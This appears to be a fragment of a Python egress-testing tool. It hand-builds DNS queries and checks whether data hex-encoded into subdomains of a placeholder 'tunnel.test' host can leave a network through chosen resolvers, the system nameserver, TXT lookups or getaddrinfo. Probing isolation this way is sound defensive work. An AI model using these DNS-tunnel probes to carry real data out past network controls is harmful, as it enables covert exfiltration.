# --- names ---------------------------------------------------------------------------------------------------------


def dns_ask(server, name, kind=1, stream=False):
    question = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        question += bytes([len(label)]) + label.encode()
    question += struct.pack(">BHH", 0, kind, 1)
    with socket.socket(family_of(server), socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect((server, 53))
        if stream:
            s.sendall(struct.pack(">H", len(question)) + question)
            answer = s.recv(4096)[2:]
        else:
            s.send(question)
            answer = s.recv(4096)
    code, answers = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    data = answer[-4:] if kind == 1 and answers else b""
    return "code %d with %d answers" % (code, answers), socket.inet_ntoa(data) if data else ""


def own_name_servers():
    text = open("/etc/resolv.conf", encoding="utf-8").read()
    return re.findall(r"^nameserver\s+(\S+)", text, re.M) or ["127.0.0.1"]


def tunnelled(label):
    return "%s.%s.tunnel.test" % (PAYLOAD.hex()[:60], label)


def judge_name(said, address):
    try:
        own = proxy_address()[0]
    except NotHere:
        own = ""
    if address and address != own:
        return said + ": " + address
    raise Closed(said + (", the proxy's own address" if address else ""))


@way("a resolver of one's choice")
def _():
    return dns_ask(target("resolver"), tunnelled("chosen"))[0]


@way("a resolver of one's choice, by TCP")
def _():
    return dns_ask(target("resolver"), tunnelled("stream"), stream=True)[0]


@way("a tunnel of names")
def _():
    return judge_name(*dns_ask(own_name_servers()[0], tunnelled("a")))


@way("a tunnel of names: TXT")
def _():
    said, _ = dns_ask(own_name_servers()[0], tunnelled("txt"), kind=16)
    if said.endswith(" 0 answers"):
        raise Closed(said)
    return said


@way("a tunnel of names: the system's resolver")
def _():
    found = socket.getaddrinfo(tunnelled("libc"), 443, socket.AF_INET, socket.SOCK_STREAM)
    return judge_name("resolved", found[0][4][0])
